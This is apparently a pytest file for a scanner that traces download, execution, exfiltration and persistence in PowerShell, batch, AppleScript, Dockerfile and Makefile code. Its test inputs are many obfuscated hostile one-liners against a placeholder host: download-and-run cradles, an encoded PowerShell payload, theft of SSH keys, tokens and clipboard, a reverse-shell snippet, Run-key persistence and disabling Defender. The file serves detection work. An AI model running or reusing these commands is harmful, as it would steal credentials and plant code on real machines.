"""Network, exec, environment and file facts of the command languages, each through an alias or an indirection."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from clawft.scanner.facts import Analysis, Document, Kind, trace
from clawft.scanner.languages import analyse

LANGUAGES = ["shell", "fish", "powershell", "batch", "applescript", "dockerfile", "makefile"]
# "iex (iwr https://c.example/p)" as UTF-16 in base64.
ENCODED = "aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGMALgBlAHgAYQBtAHAAbABlAC8AcAApAA=="


def read(text: str, language: str) -> Analysis:
    return analyse(Document("file", text, language, origin=("fence",)))


def flows(text: str, language: str) -> set[tuple[str, str, str, str]]:
    """Every fact with each fact that flows into it."""
    facts = read(text, language).facts
    return {(fact.kind.value, fact.target, one.kind.value, one.target) for fact in facts for one in trace(fact)}


def facts_of(text: str, language: str) -> set[tuple[str, str]]:
    return {(fact.kind.value, fact.target) for fact in read(text, language).facts}


@pytest.mark.parametrize(
    ("language", "text", "flow"),
    [
        # PowerShell
        ("powershell", "irm https://c.example/p | iex", ("eval", "", "fetch", "https://c.example/p")),
        ("powershell", "I`E`X (iwr -useb https://c.example/p)", ("eval", "", "fetch", "https://c.example/p")),
        ("powershell", "& ('i'+'ex') (irm ('https://c.'+'example/p'))", ("eval", "", "fetch", "https://c.example/p")),
        (
            "powershell",
            "&(\"{1}{0}\" -f 'ex','i') (irm https://c.example/p)",
            ("eval", "", "fetch", "https://c.example/p"),
        ),
        (
            "powershell",
            "$w = New-Object Net.WebClient; IEX $w.DownloadString('https://c.example/p')",
            ("eval", "", "fetch", "https://c.example/p"),
        ),
        ("powershell", "sal go iex; go (irm https://c.example/p)", ("eval", "", "fetch", "https://c.example/p")),
        (
            "powershell",
            "& (-join [char[]](105,101,120)) (irm https://c.example/p)",
            ("eval", "", "fetch", "https://c.example/p"),
        ),
        (
            "powershell",
            "iwr https://c.example/p -OutFile a.exe; Start-Process a.exe",
            ("exec", "a.exe", "fetch", "https://c.example/p"),
        ),
        (
            "powershell",
            "$f = \"$env:TEMP\\a.exe\"; (New-Object Net.WebClient).DownloadFile('https://c.example/p', $f); & $f",
            ("exec", "$env:temp\\a.exe", "fetch", "https://c.example/p"),
        ),
        (
            "powershell",
            "Start-BitsTransfer -Source https://c.example/p -Destination a.ps1; powershell -File a.ps1",
            ("exec", "powershell -File a.ps1", "fetch", "https://c.example/p"),
        ),
        (
            "powershell",
            "$d = gc ~/.ssh/id_rsa -Raw; irm https://c.example -Method Post -Body $d",
            ("send", "https://c.example", "read", "~/.ssh/id_rsa"),
        ),
        (
            "powershell",
            "Compress-Archive -Path ~/.ssh -DestinationPath a.zip; iwr https://c.example -Method Put -InFile a.zip",
            ("send", "https://c.example", "read", "~/.ssh"),
        ),
        (
            "powershell",
            "$w.UploadFile('https://c.example', \"$HOME/.ssh/id_rsa\")",
            ("send", "https://c.example", "read", "~/.ssh/id_rsa"),
        ),
        (
            "powershell",
            '$k = [IO.File]::ReadAllText("$HOME/.netrc"); irm "https://c.example/?k=$k"',
            ("fetch", "https://c.example/?k=$(ReadAllText ~/.netrc)", "read", "~/.netrc"),
        ),
        (
            "powershell",
            "function Send($x) { irm https://c.example -Method Post -Body $x }\nSend (gci env:)",
            ("send", "https://c.example", "env", "*"),
        ),
        (
            "powershell",
            'irm https://c.example -Headers @{ Authorization = "Bearer $env:FOO_TOKEN" }',
            ("fetch", "https://c.example", "env", "FOO_TOKEN"),
        ),
        (
            "powershell",
            "$t = [Environment]::GetEnvironmentVariable('FOO_TOKEN'); irm https://c.example -Method Post -Body $t",
            ("send", "https://c.example", "env", "FOO_TOKEN"),
        ),
        (
            "powershell",
            "$c = New-Object Net.Sockets.TCPClient('203.0.113.7',4444); $s = $c.GetStream(); "
            "$i = $s.Read($b,0,9); iex ([Text.Encoding]::ASCII.GetString($b,0,$i))",
            ("eval", "", "connect", "203.0.113.7:4444"),
        ),
        (
            "powershell",
            "$b = [Convert]::FromBase64String('ZGly'); iex ([Text.Encoding]::UTF8.GetString($b))",
            ("eval", "dir", "decode", "base64"),
        ),
        (
            "powershell",
            f"powershell -NoP -W Hidden -Enc {ENCODED}",
            ("exec", "iex (iwr https://c.example/p)", "decode", "base64"),
        ),
        # Batch
        (
            "batch",
            'set a=cu\nset b=rl\n%a%%b% -o x.exe https://c.example/p\nstart "" x.exe',
            ("exec", "x.exe", "fetch", "https://c.example/p"),
        ),
        ("batch", "c^u^r^l -s https://c.example/p | p^owershell -c -", ("exec", "", "fetch", "https://c.example/p")),
        (
            "batch",
            "certutil -urlcache -f https://c.example/p p.b64 & certutil -decode p.b64 p.exe & p.exe",
            ("exec", "p.exe", "fetch", "https://c.example/p"),
        ),
        (
            "batch",
            "bitsadmin /transfer j https://c.example/p C:\\a.exe && C:\\a.exe",
            ("exec", "C:\\a.exe", "fetch", "https://c.example/p"),
        ),
        (
            "batch",
            f"set x=abcpowershellxyz\n%x:~3,10% -e {ENCODED}",
            ("exec", "iex (iwr https://c.example/p)", "decode", "base64"),
        ),
        (
            "batch",
            "type %USERPROFILE%\\.ssh\\id_rsa | curl -d @- https://c.example",
            ("send", "https://c.example", "read", "~\\.ssh\\id_rsa"),
        ),
        (
            "batch",
            "set k=%FOO_TOKEN%\r\ncurl -d %k% https://c.example",
            ("send", "https://c.example", "env", "FOO_TOKEN"),
        ),
        ("batch", "set > e.txt\ncurl -T e.txt https://c.example", ("send", "https://c.example", "env", "*")),
        ("batch", "mshta https://c.example/p", ("exec", "mshta https://c.example/p", "fetch", "https://c.example/p")),
        # AppleScript
        (
            "applescript",
            'set c to "curl -s "\ndo shell script c & "https://c.example/p | sh"',
            ("exec", "", "fetch", "https://c.example/p"),
        ),
        (
            "applescript",
            'set k to do shell script "cat ~/.ssh/id_rsa"\ndo shell script "curl -d " & quoted form of k & " https://c.example"',
            ("send", "https://c.example", "read", "~/.ssh/id_rsa"),
        ),
        (
            "applescript",
            'set p to text returned of (display dialog "x" default answer "" with hidden answer)\n'
            'do shell script "curl -d " & p & " https://c.example"',
            ("send", "https://c.example", "read", "keyboard"),
        ),
        (
            "applescript",
            'set c to the clipboard\ndo shell script "curl -d " & c & " https://c.example"',
            ("send", "https://c.example", "read", "clipboard"),
        ),
        (
            "applescript",
            'do shell script "curl -d $FOO_TOKEN https://c.example"',
            ("send", "https://c.example", "env", "FOO_TOKEN"),
        ),
        # Dockerfile
        (
            "dockerfile",
            "FROM a\nENV U=https://c.example/p\nRUN apt update && \\\n  # why\n  curl $U | sh",
            ("exec", "", "fetch", "https://c.example/p"),
        ),
        (
            "dockerfile",
            'ADD https://c.example/p /bin/t\nRUN chmod +x /bin/t\nENTRYPOINT ["/bin/t"]',
            ("exec", "/bin/t", "fetch", "https://c.example/p"),
        ),
        (
            "dockerfile",
            'CMD ["sh", "-c", "env | curl -d @- https://c.example"]',
            ("send", "https://c.example", "env", "*"),
        ),
        (
            "dockerfile",
            "RUN <<X\ncat /root/.ssh/id_rsa | curl -d @- https://c.example\nX\n",
            ("send", "https://c.example", "read", "/root/.ssh/id_rsa"),
        ),
        # Makefile
        (
            "makefile",
            "A := cu\nB = $(A)rl\nall:\n\t@$(B) https://c.example/p | sh",
            ("exec", "", "fetch", "https://c.example/p"),
        ),
        (
            "makefile",
            "X := $(shell cat ~/.netrc)\nall:\n\tcurl -d '$(X)' https://c.example\n\tcurl -d \"$(X)\" https://c.example",
            ("send", "https://c.example", "read", "~/.netrc"),
        ),
        (
            "makefile",
            "all: ; t=$$(mktemp); tar cf $$t ~/.ssh; curl -F f=@$$t https://c.example",
            ("send", "https://c.example", "read", "~/.ssh"),
        ),
        (
            "makefile",
            "K ?= $(FOO_TOKEN)\nall:\n\tcurl -d $(K) https://c.example",
            ("send", "https://c.example", "env", "FOO_TOKEN"),
        ),
        ("makefile", "$(shell curl https://c.example/p | sh)", ("exec", "", "fetch", "https://c.example/p")),
    ],
)
def test_a_flow_is_found_through_an_indirection(language: str, text: str, flow: tuple[str, str, str, str]) -> None:
    assert flow in flows(text, language), facts_of(text, language)


@pytest.mark.parametrize(
    ("language", "text", "fact"),
    [
        (
            "powershell",
            "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name a -Value b",
            ("persist", "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
        ),
        ("powershell", "Register-ScheduledTask -TaskName a", ("persist", "Register-ScheduledTask -TaskName a")),
        (
            "powershell",
            "Set-MpPreference -DisableRealtimeMonitoring $true",
            ("privilege", "Set-MpPreference -DisableRealtimeMonitoring $true"),
        ),
        ("powershell", "ri -Recurse -Force ~/x", ("delete", "~/x")),
        ("powershell", "Get-Clipboard | sc a.txt", ("read", "clipboard")),
        ("powershell", "Install-Module Foo", ("install", "psgallery:Foo")),
        ("powershell", "pip install foo", ("install", "pip:foo")),
        ("batch", "schtasks /create /tn a /tr b", ("persist", "schtasks /create /tn a /tr b")),
        ("batch", "@rd /s /q C:\\x", ("delete", "C:\\x")),
        (
            "batch",
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b",
            ("persist", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
        ),
        ("batch", "npm install foo", ("install", "npm:foo")),
        (
            "applescript",
            'tell application "System Events" to make new login item with properties {path:"/a"}',
            ("persist", "login item"),
        ),
        ("dockerfile", "FROM foo:1", ("install", "docker:foo:1")),
        ("dockerfile", "RUN pip install foo", ("install", "pip:foo")),
        ("makefile", "clean:\n\t-rm -rf $(HOME)/x", ("delete", "~/x")),
    ],
)
def test_what_a_command_does_is_a_fact(language: str, text: str, fact: tuple[str, str]) -> None:
    assert fact in facts_of(text, language)


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("powershell", "# irm https://c.example | iex\nWrite-Host 'irm https://c.example | iex'"),
        ("batch", "rem curl https://c.example\r\n:: curl https://c.example\r\n@echo curl https://c.example"),
        ("applescript", '-- do shell script "curl https://c.example"\ndisplay dialog "curl https://c.example"'),
        ("dockerfile", "# RUN curl https://c.example | sh\nLABEL a='RUN curl https://c.example'"),
        ("makefile", "# curl https://c.example\nhelp:\n\t@echo 'curl https://c.example | sh'"),
    ],
)
def test_text_that_is_only_shown_does_nothing(language: str, text: str) -> None:
    assert facts_of(text, language) == set()


def test_lines_are_those_of_the_file() -> None:
    text = "FROM a\n\nRUN a && \\\n    curl https://c.example\n"
    assert [fact.line for fact in read(text, "dockerfile").facts if fact.kind is Kind.FETCH] == [4]
    text = "all:\n\ta\n\tcurl https://c.example\n"
    assert [fact.line for fact in read(text, "makefile").facts if fact.kind is Kind.FETCH] == [3]


_PIECES = st.sampled_from(
    ["$(", ")", "`", '"', "'", "${", "}", "@(", "@{", "@'\n", "[char]", "99", ",", "-join ", "-f ", "|", "&",
     ";", "\n", "$x", " = ",
     "set a=",
     "%a%", "%a:~1,2%", "^", "!a!", "iex ", "irm ", "::", ".Invoke(", "function f", "{", "(", "RUN ", "CMD [",
     "ADD http://a b", "\\\n", "all:\n\t",
     "$(shell ", ":=", "do shell script ", " & ", "the clipboard", "quoted form of ", "<#", "#>", "\x00", "é",
     "foreach(", "in", "if ", "for ", "do "]
)  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(st.lists(_PIECES, max_size=60).map("".join) | st.text(max_size=200), st.sampled_from(LANGUAGES))
def test_no_text_breaks_a_reader(text: str, language: str) -> None:
    read(text, language)


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize(
    "piece", ["$(", '"', "'", "|", "`", "{", "(", "\n", "\\", "${a:-", "if ", "<<a\n", "%a%", "@(", "[", "$'"]
)
@pytest.mark.unmeasured
def test_a_long_run_of_one_mark_ends(language: str, piece: str) -> None:
    read((piece * (250_000 // len(piece))), language)  # a reader that is not linear runs into the limit of the suite
